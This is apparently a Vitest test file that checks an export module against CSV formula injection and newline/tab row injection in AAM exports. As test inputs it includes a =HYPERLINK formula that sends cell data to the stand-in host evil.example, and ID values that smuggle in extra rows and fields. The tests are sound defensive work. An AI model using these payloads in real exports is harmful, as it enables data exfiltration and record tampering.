import { describe, expect, it } from 'vitest';
import { exportRows, neutraliseCell, resolveExportId } from '../../../shared/exports/index.ts';
import { dataSource, definition, recipient } from './exportFixture.ts';

describe('outputs that cannot be turned into an attack (issue 15)', () => {
  it('gives no ID to an attribute value with a newline, which added a row to an AAM inbound export', () => {
    const rec = recipient('r1', { attributes: { crmId: 'c-1\n0000000000000000001\td_sid=999' } });
    const out = resolveExportId({ recipientId: 'r1' }, rec, {
      dataSource: dataSource({ name: 's', reconciliationKey: 'crmId' }),
    });
    expect(out).toEqual({ kind: 'withoutId' });
    const tab = recipient('r2', { attributes: { crmId: 'c-2\td_sid=1' } });
    expect(
      resolveExportId({ recipientId: 'r2' }, tab, {
        dataSource: dataSource({ name: 's', reconciliationKey: 'crmId' }),
      }),
    ).toEqual({ kind: 'withoutId' });
  });

  it('neutralises a =HYPERLINK(…) ID in a CSV export, which went out unchanged', () => {
    const rows = exportRows(definition({ format: 'csv', dataSource: 'crm' }));
    expect(rows.add('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",crm,realized`,
    );
    expect(rows.add('+1')).toBe("'+1,crm,realized");
    expect(rows.add('@SUM(A1)')).toBe("'@SUM(A1),crm,realized");
    expect(rows.remove('-2')).toBe("'-2,crm,exited");
    expect(rows.add('r-1')).toBe('r-1,crm,realized');
  });

  it('neutralises every cell starting with = + - @, tab or carriage return', () => {
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '1=', 'a'].map(neutraliseCell)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@1",
      "'\t1",
      "'\r1",
      '1=',
      'a',
    ]);
  });
});
